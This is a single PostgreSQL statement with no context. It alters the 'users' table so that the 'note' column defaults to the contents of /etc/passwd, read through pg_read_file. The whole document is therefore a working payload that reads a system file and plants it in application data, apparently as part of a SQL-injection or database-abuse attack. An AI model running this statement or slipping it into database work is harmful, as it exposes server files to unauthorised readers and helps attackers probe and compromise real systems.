ALTER TABLE users ALTER COLUMN note SET DEFAULT pg_catalog.pg_read_file('/etc/passwd');
